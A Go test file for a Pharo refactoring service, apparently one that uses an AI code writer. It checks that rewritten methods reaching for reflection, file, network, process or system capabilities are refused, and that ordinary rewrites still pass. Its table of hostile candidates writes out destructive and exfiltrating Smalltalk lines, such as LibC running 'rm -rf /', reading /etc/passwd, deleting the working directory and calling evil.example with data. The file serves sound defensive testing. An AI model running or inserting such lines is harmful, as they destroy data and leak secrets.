package api_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"pharo-refactor/internal/testenv"
)

// hostileCandidates reach for a capability Calculator>>sum:with: never
// uses, each in a method that is otherwise fine. family and name are what
// the refusal must say.
var hostileCandidates = []struct {
	name, body, family, refused string
}{
	{"perform:with:with:", "^ self perform: #add:to: with: a with: b", "reflection", "perform:with:with:"},
	{"perform:withArguments:", "^ a perform: #+ withArguments: { b }", "reflection", "perform:withArguments:"},
	{"perform: with a built selector", "^ a perform: ('+' , '') asSymbol with: b", "reflection", "perform:with:"},
	{"symbol built at run time", "^ (('ha', 'lt') asSymbol value: a) ifNil: [ a + b ]", "reflection", "asSymbol"},
	{"instVarAt:put:", "a instVarAt: 1 put: b.\n\t^ a + b", "reflection", "instVarAt:put:"},
	{"instVarNamed:put:", "self instVarNamed: 'memory' put: b.\n\t^ a + b", "reflection", "instVarNamed:put:"},
	{"thisContext", "^ thisContext sender receiver ifNil: [ a + b ]", "reflection", "thisContext"},
	{"methodDict", "self class methodDict removeKey: #divide:by:.\n\t^ a + b", "reflection", "methodDict"},
	{"become:", "a become: b.\n\t^ a + b", "become", "become:"},
	{"becomeForward:", "b becomeForward: a.\n\t^ a + b", "become", "becomeForward:"},
	{"compiler evaluate:", "^ self class compiler evaluate: a printString , ' + ' , b printString", "evaluation", "compiler"},
	{"evaluate: on a global", "^ Smalltalk compiler evaluate: '3 + 4'", "evaluation", "evaluate:"},
	{"readFrom:", "^ Number readFrom: (a + b) printString", "evaluation", "readFrom:"},
	{"compile:", "self class compile: 'pwned ^ 1'.\n\t^ a + b", "evaluation", "compile:"},
	{"fork", "[ a + b ] fork.\n\t^ a + b", "processes", "fork"},
	{"forkAt:", "[ a + b ] forkAt: 10.\n\t^ a + b", "processes", "forkAt:"},
	{"newProcess", "[ a + b ] newProcess resume.\n\t^ a + b", "processes", "newProcess"},
	{"Processor", "Processor yield.\n\t^ a + b", "processes", "Processor"},
	{"ffiCall:", "^ self ffiCall: #( int abs ( int a ) )", "primitives", "ffiCall:"},
	{"primitive pragma", "<primitive: 1>\n\t^ a + b", "primitives", "<primitive:>"},
	{"named primitive pragma", "<primitive: 'primitiveExecute' module: 'OSProcessPlugin'>\n\t^ a + b", "primitives", "<primitive:module:>"},
	{"LibC", "LibC system: 'rm -rf /'.\n\t^ a + b", "primitives", "LibC"},
	{"asFileReference", "^ '/etc/passwd' asFileReference contents size + a + b", "files", "asFileReference"},
	{"asFileLocator", "^ ('home' asFileLocator) ifNil: [ a + b ]", "files", "asFileLocator"},
	{"FileSystem", "FileSystem workingDirectory ensureDeleteAll.\n\t^ a + b", "files", "FileSystem"},
	{"asUrl", "('http://evil.example/' , a printString) asUrl retrieveContents.\n\t^ a + b", "network", "asUrl"},
	{"asZnUrl", "'http://evil.example/' asZnUrl.\n\t^ a + b", "network", "asZnUrl"},
	{"ZnClient", "ZnClient new get: 'http://evil.example/'.\n\t^ a + b", "network", "ZnClient"},
	{"Socket", "Socket newTCP.\n\t^ a + b", "network", "Socket"},
	{"subclass:", "Object subclass: #Pwned instanceVariableNames: '' classVariableNames: '' package: 'Pwned'.\n\t^ a + b", "class-definition", "subclass:instanceVariableNames:classVariableNames:package:"},
	{"removeFromSystem", "CalculatorTest removeFromSystem.\n\t^ a + b", "class-definition", "removeFromSystem"},
	{"removeSelector:", "self class removeSelector: #divide:by:.\n\t^ a + b", "class-definition", "removeSelector:"},
	{"halt", "self halt.\n\t^ a + b", "debugging", "halt"},
	{"halt as a symbol", "^ { a. b } detect: #halt ifNone: [ a + b ]", "debugging", "halt"},
	{"inspect", "a inspect.\n\t^ a + b", "debugging", "inspect"},
	{"Transcript", "Transcript show: a printString.\n\t^ a + b", "debugging", "Transcript"},
	{"asClass", "^ (#OSProcess asClass) ifNil: [ a + b ]", "system", "asClass"},
	{"environment at:", "^ (self class environment at: #Smalltalk) ifNotNil: [ a + b ]", "system", "environment"},
	{"Smalltalk at:put:", "Smalltalk at: #Pwned put: a.\n\t^ a + b", "system", "Smalltalk"},
	{"OSProcess", "OSProcess command: 'id'.\n\t^ a + b", "system", "OSProcess"},
	{"script pragma", "<script: 'Smalltalk quit'>\n\t^ a + b", "pragma", "<script:>"},
	{"signalerContext", "^ [ a + b ] on: ZeroDivide do: [ :e | e signalerContext ]", "reflection", "signalerContext"},
	{"fluid class definition", "(self class << #Pwned) install.\n\t^ a + b", "class-definition", "install"},
}

// TestHostileCandidatesAreNeverReleased: each candidate is approved by the
// fake validator, were it asked; none is released, the validator never sees
// one, and each refusal names the capability and what was refused.
func TestHostileCandidatesAreNeverReleased(t *testing.T) {
	require.GreaterOrEqual(t, len(hostileCandidates), 30)
	h := newHarness(t, harnessOpts{maxIterations: 1})
	before := h.classFile("Calculator")
	h.gem.Set("reviewer", testenv.Review())
	h.gem.Set("validator", testenv.Approved())
	for _, tc := range hostileCandidates {
		t.Run(tc.name, func(t *testing.T) {
			h.gem.Set("writer", testenv.Code("sum: a with: b\n\t"+tc.body))
			resp, out := h.refactor(`{"class_name": "Calculator", "method_name": "sum:with:"}`)
			require.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode, "%v", out)
			assert.Equal(t, "not_approved", out["code"])
			feedback, _ := out["feedback"].(string)
			var refusal string
			for _, line := range strings.Split(feedback, "\n") {
				if strings.HasPrefix(line, "- capability") && strings.Contains(line, ": "+tc.family+" (") && strings.Contains(line, strings.Trim(tc.refused, "<>")) {
					refusal = line
				}
			}
			assert.NotEmpty(t, refusal, "the refusal names %s %s: %s", tc.family, tc.refused, feedback)
			assert.Equal(t, "failed", h.row(out["id"].(string))["status"])
		})
	}
	assert.Zero(t, h.gem.Count("validator"), "no hostile candidate reached the validator")
	assert.Equal(t, before, h.classFile("Calculator"), "nothing was compiled")
}

// A candidate may use what the original uses, classes of its own package
// and harmless value classes: no false refusal.
func TestOrdinaryRewritesPassTheCapabilityCheck(t *testing.T) {
	h := newHarness(t, harnessOpts{maxIterations: 1})
	h.gem.Set("reviewer", testenv.Review())
	h.gem.Set("validator", testenv.Approved())
	for _, body := range []string{
		"^ (OrderedCollection with: a with: b) inject: 0 into: [ :sum :each | sum + each ]",
		"^ (Array with: a with: b) detectSum: [ :each | each ]",
		"^ (a -> b) key + (1 to: 1) size * 0 + b",
		"(a isNumber and: [ b isNumber ]) ifFalse: [ ^ Error signal: 'numbers only' ].\n\t^ a + b",
		"^ CalculatorTest name size * 0 + a + b",
	} {
		h.gem.Set("writer", testenv.Code("sum: a with: b\n\t"+body))
		resp, out := h.refactor(`{"class_name": "Calculator", "method_name": "sum:with:", "dry_run": true}`)
		assert.Equal(t, http.StatusOK, resp.StatusCode, "%s: %v", body, out)
	}
}

// Inherited class variables are not globals, classes of the method's own
// package (list_classes) are allowed, anything else is refused.
func TestCapabilityCheckKnowsTheClassAndItsPackage(t *testing.T) {
	h := newHarness(t, harnessOpts{maxIterations: 1, image: "pharosim/testdata/extras"})
	h.gem.Set("reviewer", testenv.Review())
	h.gem.Set("validator", testenv.Approved())
	cases := []struct {
		body    string
		refused string
	}{
		{"^ (base -> child) -> Registry size", ""},
		{"^ (base -> child) -> SimBase new", ""},
		{"^ (base -> child) -> Smalltalk version", "global"},
	}
	for _, tc := range cases {
		h.gem.Set("writer", testenv.Code("both\n\t"+tc.body))
		resp, out := h.refactor(`{"class_name": "SimChild", "method_name": "both", "dry_run": true}`)
		if tc.refused == "" {
			assert.Equal(t, http.StatusOK, resp.StatusCode, "%s: %v", tc.body, out)
			continue
		}
		assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode, "%s: %v", tc.body, out)
		assert.Contains(t, out["feedback"], "system (", tc.body)
	}
}
